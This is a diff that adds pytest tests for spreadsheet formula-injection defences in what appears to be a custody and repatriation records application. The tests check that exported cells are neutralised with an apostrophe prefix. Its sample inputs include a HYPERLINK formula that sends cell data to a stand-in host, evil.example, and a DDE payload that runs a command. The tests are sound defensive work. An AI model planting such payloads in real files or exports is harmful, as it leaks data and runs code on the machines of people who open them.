@@ -235,3 +235,73 @@ def test_roster_within_limits_still_imports(make_user: Any, client_for: Any, imp
     assert r.status_code == 302, _page_error(r)
     page = c.get(r["Location"])
     assert page.context["table"].rows == [["Ali Hassan", "1990"]]
+
+
+# --------------------------------------------------------------------------------- formula injection
+
+FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)",
+            "\t=1+1", "\r=1+1", "  =1+1", "\u200f=1+1", "\uff1d1+1"]
+
+
+@pytest.mark.parametrize("value", FORMULAS)
+def test_safe_cell_neutralises_every_formula_start(value: str) -> None:
+    from custody.core.exports import safe_cell
+
+    assert safe_cell(value) == "'" + value
+
+
+@pytest.mark.parametrize("value", ["Ali Hassan", "محمد", "", "a=b", "P-000123", -3.5, 7, None])
+def test_safe_cell_leaves_data_alone(value: Any) -> None:
+    from custody.core.exports import safe_cell
+
+    assert safe_cell(value) == value
+
+
+def test_every_csv_and_xlsx_writer_goes_through_safe_cell() -> None:
+    """Static guard: a new writer that bypasses custody.core.exports fails here, naming the line."""
+    root = Path(__file__).resolve().parents[2] / "custody"
+    raw = re.compile(r"csv\.(writer|DictWriter)\(|\bws\.append\(|\.cell\([^)]*value=|xlsxwriter")
+    offenders = []
+    for path in root.rglob("*.py"):
+        if path.name == "exports.py" and path.parent.name == "core":
+            continue
+        for n, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
+            if raw.search(line):
+                offenders.append(f"{path.relative_to(root.parent)}:{n}: {line.strip()}")
+    assert not offenders, "write cells through custody.core.exports (safe_cell):\n" + "\n".join(offenders)
+
+
+def test_repatriation_exports_keep_names_as_text(make_user: Any, api_for: Any, facility_factory: Any, person_factory: Any,
+                                                 tmp_path: Path) -> None:
+    import openpyxl
+
+    fac = facility_factory("INJ1", custodian="IRQ")
+    evil, evil_ar = FORMULAS[0], "@SUM(1+1)"
+    person_factory(evil, evil_ar, facility=fac, nationality="TN", release_all=True, classification=1, place_of_birth="-2+3")
+    api = api_for(make_user("MFA", "analyst"))
+    r = api.get("/api/repatriation/countries/TN/export/?fmt=csv")
+    assert r.status_code == 200, r.content[:300]
+    import csv
+
+    rows = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert "'" + evil in cells and "'" + evil_ar in cells and "'-2+3" in cells, rows
+    assert not any(c and c[0] in "=+-@" for c in cells), rows
+    target = tmp_path / "tn.xlsx"
+    analyst = make_user("MFA", "analyst")
+    call_command("repatriation-export", "TN", "--format", "xlsx", "--user", analyst.username, "--out", str(target))
+    ws = openpyxl.load_workbook(target).active
+    values = [c for row in ws.iter_rows(min_row=2) for c in row]
+    assert not any(c.data_type == "f" for c in values), "no cell of the export is a formula"
+    assert "'" + evil in [c.value for c in values]
+
+
+def test_dedupe_output_keeps_names_as_text(tmp_path: Path) -> None:
+    import csv
+
+    src = tmp_path / "in.csv"
+    src.write_text("name,dob\n=1+1,1990\n@SUM(A1),1991\nAli Hassan,1980\n", encoding="utf-8")
+    out = tmp_path / "out.csv"
+    call_command("dedupe", str(src), "--out", str(out))
+    rows = list(csv.DictReader(out.open(encoding="utf-8")))
+    assert [r["name"] for r in rows] == ["'=1+1", "'@SUM(A1)", "Ali Hassan"]
